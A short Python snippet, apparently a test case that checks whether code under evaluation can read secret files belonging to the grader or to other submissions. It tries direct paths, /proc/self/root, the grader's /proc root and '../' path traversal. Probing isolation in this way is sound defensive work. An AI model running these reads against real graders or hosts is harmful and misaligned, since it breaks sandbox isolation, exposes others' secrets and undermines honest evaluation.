# Reads secret files of the grader, those of others and its own.
# real: yes


def strike():
    for name in ("readable", "private", "other"):
        attempt(name, read, FACTS[name])
        attempt(f"{name} through /proc", read, f"/proc/self/root{FACTS[name]}")
        attempt(f"{name} from the old root", read, f"/proc/{FACTS['grader']}/root{FACTS[name]}")
        attempt(f"{name} from above", read, "../" * 20 + FACTS[name])
